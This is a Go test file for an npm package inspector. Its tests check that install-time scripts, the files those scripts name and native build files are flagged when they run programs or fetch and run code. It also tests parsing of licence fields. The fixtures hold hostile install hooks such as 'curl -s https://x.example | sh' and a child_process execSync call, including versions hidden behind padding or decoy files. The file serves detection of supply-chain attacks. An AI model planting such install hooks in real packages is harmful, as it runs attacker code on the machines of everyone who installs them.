package npm_test

import (
	"fmt"
	"strings"
	"testing"
)

// TestCodeThatRunsAtAnInstall: the lines to read of what an install runs are told, of the scripts and of the
// files that they name; of a package that runs nothing, none.
func TestCodeThatRunsAtAnInstall(t *testing.T) {
	t.Parallel()
	const post = "require('child_process').execSync('id')\n"
	decoys := []string{}
	for i := range 20 {
		decoys = append(decoys, fmt.Sprintf("d%d.js", i))
	}
	for name, c := range map[string]struct {
		members string
		files   [][2]string
		want    string
	}{
		"a command":         {`,"scripts":{"postinstall":"curl -s https://x.example | sh"}`, nil, "postinstall:1 runs what it downloads, uses the network: curl -s https://x.example | sh"},
		"far behind":        {`,"scripts":{"preinstall":"` + strings.Repeat("true; ", 100) + `curl -s https://x.example | sh"}`, nil, "preinstall:1 runs what it downloads, uses the network: ...true; true; true; true; true; curl -s https://x.example | sh"},
		"a file":            {`,"scripts":{"install":"node ./scripts/post.js"}`, [][2]string{{"package/scripts/post.js", post}}, "scripts/post.js:1 runs programs: require('child_process').execSync('id')"},
		"as node names":     {`,"scripts":{"install":"node scripts/post && true"}`, [][2]string{{"package/scripts/post/index.js", post}}, "scripts/post/index.js:1 runs programs: require('child_process').execSync('id')"},
		"a build":           {"", [][2]string{{"package/binding.gyp", "{'sources': ['<!(curl -s https://x.example | sh)']}"}}, "binding.gyp:1 runs what it downloads, uses the network: {'sources': ['<!(curl -s https://x.example | sh)']}"},
		"many files":        {`,"scripts":{"install":"` + strings.Join(decoys, "; ") + `; node post.js"}`, files(decoys, post), "install names more files than are looked at"},
		"nothing that runs": {`,"scripts":{"test":"curl -s https://x.example | sh"}`, [][2]string{{"package/post.js", post}}, ""},
	} {
		got, err := inspect(nil, tarballOf(t, c.members, c.files...))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if text := strings.Join(got.Inside.Suspect, "|"); (c.want == "") != (text == "") || !strings.HasPrefix(text, c.want) {
			t.Errorf("%s: %q, want %q", name, text, c.want)
		}
	}
}

// files are those names, of which the last runs, and the others do nothing.
func files(decoys []string, last string) (all [][2]string) {
	for _, name := range decoys {
		all = append(all, [2]string{"package/" + name, ""})
	}
	return append(all, [2]string{"package/post.js", last})
}

// TestLicencesOfAPackage: in each of the forms that manifests have, and by the file's text.
func TestLicencesOfAPackage(t *testing.T) {
	t.Parallel()
	for _, c := range [][2]string{
		{`,"license":"MIT"`, "MIT"},
		{`,"license":"(MIT OR Apache-2.0)"`, "(MIT OR Apache-2.0)"},
		{`,"license":{"type":"BSD-3-Clause","url":"https://x.example"}`, "BSD-3-Clause"},
		{`,"licenses":[{"type":"MIT"},{"type":"GPL-2.0"}]`, "MIT OR GPL-2.0"},
		{`,"licenses":"MIT"`, "MIT"},
		{`,"license":"SEE LICENSE IN terms.txt"`, "not recognised: it is in terms.txt"},
		{`,"license":["MIT"]`, ""},
		{``, ""},
	} {
		members, want := c[0], c[1]
		got, err := inspect(nil, tarballOf(t, members))
		if err != nil || got.Said.License != want {
			t.Errorf("%s: %q, want %q; %v", members, got.Said.License, want, err)
		}
	}
	got, err := inspect(nil, tarballOf(t, "", [2]string{"package/LICENSE", "ask me"}))
	if err != nil || got.Said.License != "not recognised: it is in LICENSE" {
		t.Errorf("%q, %v", got.Said.License, err)
	}
	if fmt.Sprint(got.Inside.Suspect) != "[]" {
		t.Error(got.Inside.Suspect)
	}
}
